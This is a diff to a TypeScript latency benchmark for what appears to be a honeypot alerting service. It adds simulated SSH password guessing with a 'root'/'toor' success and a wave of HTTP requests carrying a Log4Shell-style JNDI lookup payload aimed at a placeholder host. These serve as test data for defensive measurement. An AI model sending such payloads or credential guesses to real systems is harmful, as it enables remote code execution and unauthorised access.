@@ -1,4 +1,4 @@
-/** From an event to the receiver's socket: how fast under load, and beside a receiver that hangs. */
+/** From an event to the receiver's socket: how fast under load, beside a receiver that hangs, and in the middle of attacks. */
 import { rmSync } from 'node:fs';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
@@ -15,9 +15,13 @@ const quantile = (values: readonly number[], share: number): number =>
 const sleep = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, Math.max(0, ms)));
 const ms = (value: number): string => `${value.toFixed(1)} ms`;
 
-/** Notes when each source's message reached the socket; `hang` says nothing for 30 s. */
+/**
+ * Notes when each source's message reached the socket, and when it became worse; `hang` says nothing for 30 s. A message is
+ * written in one piece, so the head of its request is its first byte.
+ */
 async function openReceiver(hang: boolean) {
   const arrived = new Map<string, number>();
+  const worsened = new Map<string, number>();
   let requests = 0;
   const server = createServer((request, response) => {
     const at = performance.now();
@@ -29,6 +33,7 @@ async function openReceiver(hang: boolean) {
     request.on('end', () => {
       const { data } = JSON.parse(body) as { data: { source_ip: string; occasion: string } };
       if (data.occasion === 'opened') arrived.set(data.source_ip, at);
+      if (data.occasion === 'worse' && !worsened.has(data.source_ip)) worsened.set(data.source_ip, at);
       if (hang) setTimeout(() => response.destroy(), 30_000).unref();
       else response.writeHead(204).end();
     });
@@ -38,6 +43,7 @@ async function openReceiver(hang: boolean) {
   return {
     url,
     arrived,
+    worsened,
     get requests() {
       return requests;
     },
@@ -108,18 +114,111 @@ async function probe(
   };
 }
 
+const event = (source_ip: string, fields: object): object => ({
+  service: 'SSH',
+  source_ip,
+  timestamp: new Date().toISOString(),
+  activity: 'login_attempt',
+  payload: '',
+  ...fields,
+});
+const guess = (source: string, n: number): object =>
+  event(source, { extra: { kind: 'login.failed', username: 'root', password: `guess ${n}` } });
+
+/** Until the messages are there, or for so long. ms from `sent`, in its order. */
+async function waited(
+  sent: ReadonlyMap<string, number>,
+  there: ReadonlyMap<string, number>,
+): Promise<number[]> {
+  for (let ms = 0; ms < 40_000 && ![...sent.keys()].every((key) => there.has(key)); ms += 20) await sleep(20);
+  return [...sent].map(([key, at]) => (there.get(key) ?? Number.POSITIVE_INFINITY) - at);
+}
+
+/** Sources guess in batches of 100, one after another; each signs in once, in the middle. Waits in ms. */
+async function successes(
+  { address, headers }: BenchServer,
+  worsened: ReadonlyMap<string, number>,
+  { sources, guesses }: { sources: number; guesses: number },
+): Promise<number[]> {
+  const sent = new Map<string, number>();
+  const batches = guesses / sources / 100;
+  for (let n = 0; n < sources; n++) {
+    const source = `203.0.113.${n + 1}`;
+    for (let batch = 0; batch < batches; batch++) {
+      if (batch === batches >> 1) {
+        sent.set(source, performance.now());
+        const extra = { kind: 'login.succeeded', username: 'root', password: 'toor' };
+        await post(
+          `${address}/api/honeypot-log`,
+          headers,
+          event(source, { activity: 'login_success', extra }),
+        );
+      }
+      const events = Array.from({ length: 100 }, (_, at) => guess(source, batch * 100 + at));
+      await post(`${address}/api/events`, headers, events);
+    }
+  }
+  return waited(sent, worsened);
+}
+
+/** So many sources try one exploit, evenly over `seconds`; `touches` hosts inside try a password meanwhile. Waits in ms. */
+async function insideWave(
+  { address, headers }: BenchServer,
+  arrived: ReadonlyMap<string, number>,
+  pacer: ReturnType<typeof startHelper>,
+  { sources, seconds, touches }: { sources: number; seconds: number; touches: number },
+): Promise<{ waits: number[]; told: number }> {
+  const url = `${address}/api/honeypot-log`;
+  const payload = 'GET /?x=${jndi:ldap://203.0.113.1:1389/a} HTTP/1.1';
+  const bodies = Array.from({ length: sources }, (_, n) =>
+    JSON.stringify(
+      event(`20.${n >> 8}.${n & 255}.7`, { service: 'HTTP', activity: 'http_request', payload }),
+    ),
+  );
+  const sent = new Map<string, number>();
+  const wave = pacer.ask<Paced>({ url, headers, bodies, seconds, rate: sources / seconds } satisfies Pace);
+  for (let n = 0; n < touches; n++) {
+    await sleep((1000 * seconds) / (touches + 1));
+    const source = `10.20.30.${n + 1}`;
+    sent.set(source, performance.now());
+    await post(url, headers, guess(source, 0));
+  }
+  const { bad } = await wave;
+  if (bad > 0) throw new Error(`${bad} requests of the wave were not answered well`);
+  const waits = await waited(sent, arrived);
+  return { waits, told: [...arrived.keys()].filter((source) => source.startsWith('20.')).length };
+}
+
+/** Receivers on this machine are for the owner alone as long as anybody may register: who shall have one registers before. */
+async function openTenants(folder: string, count: number) {
+  const open = startHelper('server', { BENCH_DATA: folder });
+  const enrolled: BenchServer[] = [];
+  for (let n = 0; n < count; n++) enrolled.push(await open.ask<BenchServer>({ what: 'enrol' }));
+  await open.end();
+  const server = startHelper('server', { BENCH_DATA: folder, BENCH_REGISTRATION: 'closed' });
+  const { address } = await server.ask<{ address: string }>({ what: 'address' });
+  return { server, tenants: enrolled.map((tenant) => ({ ...tenant, address })) };
+}
+
 async function run(options: Record<string, string>): Promise<Report> {
   const seconds = Number(options.seconds);
   const rate = Number(options.rate);
   const hanging = Number(options.hanging);
   const folder = freshFolder();
-  const server = startHelper('server', { BENCH_DATA: folder });
+  const { server, tenants } = await openTenants(folder, 5);
   const pacer = startHelper('pace');
   const quick = await openReceiver(false);
   const stuck = await openReceiver(true);
   const other = await openReceiver(false);
+  const attacked = await openReceiver(false);
   try {
-    const loaded = await server.ask<BenchServer>({ what: 'enrol' });
+    const [loaded, slow, fair, guessed, waved] = tenants as [
+      BenchServer,
+      BenchServer,
+      BenchServer,
+      BenchServer,
+      BenchServer,
+    ];
     await hook(loaded, quick.url);
     const next = createEvents(7, Date.now() - 60_000);
     const bodies = Array.from({ length: 5000 }, () => JSON.stringify(next()));
@@ -137,8 +236,6 @@ async function run(options: Record<string, string>): Promise<Report> {
     ]);
     const told = quick.requests;
 
-    const slow = await server.ask<BenchServer>({ what: 'enrol' });
-    const fair = await server.ask<BenchServer>({ what: 'enrol' });
     await hook(slow, stuck.url);
     await hook(fair, other.url);
     for (let n = 0; n < hanging; n += 20)
@@ -146,11 +243,16 @@ async function run(options: Record<string, string>): Promise<Report> {
         Array.from({ length: Math.min(20, hanging - n) }, (_, m) => touch(slow, `slow-${n + m}`)),
       );
     const beside = await probe(fair, other.arrived, { count: 200, everyMs: 50, name: 'fair' });
+    await hook(guessed, attacked.url);
+    const successMs = await successes(guessed, attacked.worsened, { sources: 10, guesses: 10_000 });
+    await hook(waved, attacked.url);
+    const wave = { sources: 5000, seconds: 20, touches: 10 };
+    const inside = await insideWave(waved, attacked.arrived, pacer, wave);
     const [p50, p99] = [quantile(under.afterAck, 0.5), quantile(under.afterAck, 0.99)];
     const isolated = quantile(beside.whole, 0.99);
     return {
       title: 'Messages',
-      how: `Server, load and receivers in processes of their own. Beside ${whole(hit.answered / seconds)} single events/s (asked: ${rate}/s, ${hit.bad} answered badly), 20 decoys a second are touched, each an incident with a signed webhook of its own; ${told} webhooks in all. Then ${hanging} messages of one tenant go to a receiver that says nothing for 30 s, and another tenant's 200 are timed from the event's request to the socket.`,
+      how: `Server, load and receivers in processes of their own. Beside ${whole(hit.answered / seconds)} single events/s (asked: ${rate}/s, ${hit.bad} answered badly), 20 decoys a second are touched, each an incident with a signed webhook of its own; ${told} webhooks in all. Then ${hanging} messages of one tenant go to a receiver that says nothing for 30 s, and another tenant's 200 are timed from the event's request to the socket. A third tenant is guessed at 10,000 times by 10 sources, in batches of 100 without a pause, and each source signs in once in the middle. A fourth is tried by 5,000 sources in ${wave.seconds} s, and ${wave.touches} hosts inside its network try one password each meanwhile. All of these are timed from the start of the event's request to the first byte of the message at its receiver.`,
       lines: [
         {
           what: 'durable event → receiver’s socket, median',
@@ -167,10 +269,22 @@ async function run(options: Record<string, string>): Promise<Report> {
           must: '< 2,000 ms',
           holds: isolated < 2000,
         },
+        {
+          what: 'a success among 10,000 guesses → receiver’s socket, median',
+          value: `${ms(quantile(successMs, 0.5))}; longest ${ms(Math.max(...successMs))}`,
+          must: '< 100 ms',
+          holds: Math.max(...successMs) < 100,
+        },
+        {
+          what: 'a touch inside among 5,000 sources → receiver’s socket, median',
+          value: `${ms(quantile(inside.waits, 0.5))}; longest ${ms(Math.max(...inside.waits))}; ${inside.told} sources of the wave were told by themselves`,
+          must: '< 1,000 ms',
+          holds: Math.max(...inside.waits) < 1000,
+        },
       ],
     };
   } finally {
-    for (const receiver of [quick, stuck, other]) receiver.close();
+    for (const receiver of [quick, stuck, other, attacked]) receiver.close();
     await Promise.all([server.end(), pacer.end()]);
     rmSync(folder, { recursive: true, force: true });
   }
@@ -178,7 +292,7 @@ async function run(options: Record<string, string>): Promise<Report> {
 
 export const bench: Bench = {
   title: 'Messages',
-  help: 'From an event to the socket of a webhook, under load and beside a receiver that hangs.',
+  help: 'From an event to the socket of a webhook, under load, beside a receiver that hangs, and in the middle of attacks.',
   options: { seconds: '15', rate: '1000', hanging: '1000' },
   run,
 };
